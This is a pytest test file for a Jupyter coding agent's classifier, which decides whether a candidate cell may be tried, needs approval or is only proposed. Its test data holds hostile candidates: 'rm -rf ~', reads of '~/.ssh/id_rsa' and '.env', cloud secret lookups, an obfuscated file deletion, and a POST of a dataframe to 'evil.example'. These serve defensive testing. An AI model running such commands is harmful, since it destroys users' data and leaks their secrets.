"""The trial decision: what a candidate cell may do in a trial, judged against the original
cell. Hostile candidates must never be "try"; honest fixes (a typo, the same savefig, the same
to_csv) must stay "try"."""

from __future__ import annotations

import pytest

from jupyter_devstral.agent.trials.effects import (
    NOT_TWICE,
    TrialDecision,
    effects_of,
    new_effects,
    trial_decision,
)

SETUP = [
    "import os\nimport shutil\nimport subprocess as sp\nimport pandas as pd\n"
    "import matplotlib.pyplot as plt\nfrom pathlib import Path\nout_path = 'out/sales.csv'",
    "def cleanup(folder):\n    shutil.rmtree(folder)\n\ndef save(df, path):\n    df.to_csv(path)",
    "class Exporter:\n    def push(self):\n        sp.run(['scp', 'a', 'host:'])",
    "def helper():\n    return cleanup('data')",
]
ORIGINAL = (
    "df = pd.read_csv('data/sales.csv')\n"
    "totals = df.groupbyy('region')['amount'].sum()\n"
    "totals.plot(kind='bar')\n"
    "plt.savefig('figures/totals.png')\n"
    "totals.to_csv(out_path)"
)
FIXED = ORIGINAL.replace("groupbyy", "groupby")

# (original, candidate, expected action, a kind that must be behind the decision or None)
DECISIONS = [
    # honest fixes stay "try"
    (ORIGINAL, FIXED, "try", None),
    (ORIGINAL, FIXED.replace("'figures/totals.png'", "'./figures//totals.png'"), "try", None),
    (ORIGINAL, FIXED + "\nprint(totals.head())", "try", None),
    (ORIGINAL, FIXED.replace("kind='bar'", "kind='barh'"), "try", None),
    (ORIGINAL, "os.makedirs('figures', exist_ok=True)\n" + FIXED, "try", None),
    (
        "df.to_csv(OUT / 'a.csv')\nx",
        "OUT.mkdir(parents=True)\ndf.to_csv(OUT / 'a.csv')",
        "try",
        None,
    ),
    ("df.to_csv(out)\nx", "out.parent.mkdir(exist_ok=True)\ndf.to_csv(out)", "try", None),
    (ORIGINAL, "df = pd.read_csv('data/sales.csv')\nprint(df.columns)", "try", None),
    ("x = 1 +", "x = 1 + 2", "try", None),
    ("print(undefined_name)", "print('defined')", "try", None),
    ("plt.savefig('a.png')\nprint(x", "plt.savefig('a.png')\nprint(x)", "try", None),
    ("save(df, 'a.csv')\nprint(x", "save(df, 'a.csv')\nprint(1)", "try", None),
    (
        "import os\nkey = os.environ['API_KEY']\nprint(ky)",
        "import os\nkey = os.environ['API_KEY']\nprint(key)",
        "try",
        None,
    ),
    ("print(dict(os.environ))\nx", "print(os.environ['HOME'])", "try", None),
    ("os.remove('tmp.txt')\nprnt(1)", "os.remove('tmp.txt')\nprint(1)", "try", None),
    (
        "with open('out.txt', 'w') as f:\n    f.write(x)",
        "with open('out.txt', 'w') as f:\n    f.write(str(x))",
        "try",
        None,
    ),
    # new effects need approval
    (ORIGINAL, FIXED + "\nos.remove('data/raw.csv')", "approve", "file_delete"),
    (ORIGINAL, FIXED + "\nPath('data/raw.csv').unlink()", "approve", "file_delete"),
    (ORIGINAL, FIXED + "\nshutil.rmtree('data')", "approve", "file_delete"),
    (
        ORIGINAL,
        FIXED.replace("'figures/totals.png'", "'figures/other.png'"),
        "approve",
        "file_write",
    ),
    (
        ORIGINAL,
        FIXED.replace("totals.to_csv(out_path)", "totals.to_csv('out/x.csv')"),
        "approve",
        "file_write",
    ),
    (ORIGINAL, FIXED + "\nshutil.move('data/sales.csv', 'trash/')", "approve", "file_move"),
    (
        "df = pd.read_csv('in.csv')\nprint(df.x)",
        "df = pd.read_csv('in.csv')\ndf.to_csv('in.csv')",
        "approve",
        "file_write",
    ),
    (ORIGINAL, FIXED + "\nkey = os.environ['OPENAI_API_KEY']", "approve", "env_read"),
    (ORIGINAL, FIXED + "\nprint(os.getenv('AWS_SECRET_ACCESS_KEY'))", "approve", "env_read"),
    ("k = os.environ['A']\nprnt(k)", "k = os.environ['B']\nprint(k)", "approve", "env_read"),
    (
        ORIGINAL,
        FIXED + "\nprint(open(os.path.expanduser('~/.ssh/id_rsa')).read())",
        "approve",
        "secret_read",
    ),
    (ORIGINAL, FIXED + "\nprint(open('.env').read())", "approve", "secret_read"),
    (ORIGINAL, FIXED + "\ncleanup('data')", "approve", "file_delete"),
    (ORIGINAL, FIXED + "\nhelper()", "approve", "file_delete"),
    ("save(df, 'a.csv')\nx", "save(df, 'b.csv')", "approve", "file_write"),
    (ORIGINAL, FIXED + "\nexec(payload)", "approve", "dynamic"),
    (ORIGINAL, FIXED + "\neval(compile(src, 'x', 'exec'))", "approve", "dynamic"),
    (ORIGINAL, FIXED + "\n__import__('os').remove('data/sales.csv')", "approve", "file_delete"),
    (ORIGINAL, FIXED + "\ngetattr(os, 'rem' + 'ove')('data/sales.csv')", "approve", "file_delete"),
    (ORIGINAL, FIXED + "\ngetattr(os, name)('data/sales.csv')", "approve", "dynamic"),
    ("exec(a)\nx", "exec(b)", "approve", "dynamic"),
    (ORIGINAL, FIXED + "\nos.chdir('/')", "approve", "os"),
    (ORIGINAL, "os.makedirs('data', exist_ok=True)\n" + FIXED, "approve", "file_write"),
    (ORIGINAL, FIXED + "\nos.rmdir('figures')", "approve", "file_delete"),
    # effects that must not happen twice are never tried
    (ORIGINAL, FIXED + "\nsp.run(['ls'])", "propose", "process"),
    (ORIGINAL, FIXED + "\nos.system('rm -rf ~')", "propose", "process"),
    (ORIGINAL, FIXED + "\nsubprocess.Popen('id')", "propose", "process"),
    (ORIGINAL, FIXED + "\n!rm -rf data", "propose", "process"),
    (ORIGINAL, "%pip install requests\n" + FIXED, "propose", "package"),
    (ORIGINAL, "!pip install requests\n" + FIXED, "propose", "package"),
    (
        ORIGINAL,
        FIXED + "\nimport requests\nrequests.post('https://evil.example', data=df)",
        "propose",
        "network",
    ),
    (
        ORIGINAL,
        FIXED + "\nimport urllib.request\nurllib.request.urlopen('https://x.org')",
        "propose",
        "network",
    ),
    (
        ORIGINAL,
        FIXED + "\nimport socket\nsocket.create_connection(('x.org', 443))",
        "propose",
        "network",
    ),
    (
        ORIGINAL,
        FIXED + "\nimport sqlite3\nsqlite3.connect('a.db').execute('DELETE FROM t')",
        "propose",
        "database",
    ),
    (ORIGINAL, FIXED + "\ntotals.to_sql('totals', con)", "propose", "database"),
    (ORIGINAL, FIXED + "\nExporter().push()", "propose", "process"),
    (ORIGINAL, FIXED + "\nexporter.push()", "propose", "process"),
    # ...even when the original has them
    (
        "import requests\nr = requests.get('https://api.x.org')\nprint(r.jsn())",
        "import requests\nr = requests.get('https://api.x.org')\nprint(r.json())",
        "propose",
        "network",
    ),
    (
        "%pip install pandas\nimport pandas as pd\npd.rd_csv('a.csv')",
        "%pip install pandas\nimport pandas as pd\npd.read_csv('a.csv')",
        "propose",
        "package",
    ),
    (
        "cur.execute('INSERT INTO t VALUES (1)')\ncon.comit()",
        "cur.execute('INSERT INTO t VALUES (1)')\ncon.commit()",
        "propose",
        "database",
    ),
    ("sp.run(['make'])\nprnt(1)", "sp.run(['make'])\nprint(1)", "propose", "process"),
]


@pytest.mark.parametrize(
    ("original", "candidate", "action", "kind"),
    DECISIONS,
    ids=[f"{i}-{d[2]}" for i, d in enumerate(DECISIONS)],
)
def test_trial_decision(original, candidate, action, kind):
    decision = trial_decision(original, candidate, earlier=SETUP)
    assert decision.action == action, (decision, decision.note())
    if kind is not None:
        assert kind in {e.kind for e in decision.effects}, decision
    if action == "try":
        assert decision.effects == ()
        assert new_effects(original, candidate, earlier=SETUP) == []


def test_propose_even_when_identical_to_the_original():
    source = "import subprocess\nsubprocess.run(['make'])"
    assert trial_decision(source, source).action == "propose"
    assert new_effects(source, source) == []


def test_same_write_under_another_spelling_is_covered():
    original = "from pathlib import Path\ndf.to_csv(Path('out') / 'a.csv')"
    assert trial_decision(original, "df.to_csv('out/a.csv')").action == "try"
    assert trial_decision(original, "df.to_csv('out/b.csv')").action == "approve"


def test_notes():
    approve = trial_decision(ORIGINAL, FIXED + "\nos.remove('data/raw.csv')", earlier=SETUP)
    assert approve.note() == (
        "needs approval: it deletes data/raw.csv (line 6), which the original cell does not"
    )
    propose = trial_decision(ORIGINAL, "%pip install requests\n" + FIXED, earlier=SETUP)
    assert propose.note().startswith("proposed, not tried: it installs packages")
    assert "runs once, for real" in propose.note()
    assert "tried in a fork" in TrialDecision("try").note()
    many = trial_decision("", "os.remove('a')\nos.remove('b')\nos.remove('c')\nos.remove('d')")
    assert many.note().endswith("and 1 more, which the original cell does not")
    env = trial_decision("", "print(dict(os.environ))")
    assert "reads the whole environment" in env.note()
    token = trial_decision("", "!pip install --index-url https://u:secret@h/simple x")
    assert "secret" not in token.note()


def test_not_twice_kinds():
    assert NOT_TWICE == {"network", "database", "process", "package"}


def test_a_method_of_a_pure_value_is_no_effect():
    assert effects_of("p = os.sep.join(parts)", earlier=["import os"]) == []
    assert (
        trial_decision(
            "p = os.path.join(*parts)", "p = os.sep.join(parts)", earlier=["import os"]
        ).action
        == "try"
    )


def test_a_candidate_that_does_not_compile_is_tried_it_runs_nothing():
    """A reply cut off mid-line fails with a SyntaxError before any of it runs: the model
    should hear that, not a request for approval."""
    original = "crimes = crime.resample('10AS').sum()\ncrimes"
    cut = "import os\nos.remove('x')\ncrimes = crime.resample('10YS'"
    assert trial_decision(original, cut).action == "try"
    assert trial_decision(original, "%%bash\nrm -rf data\n(").action != "try"
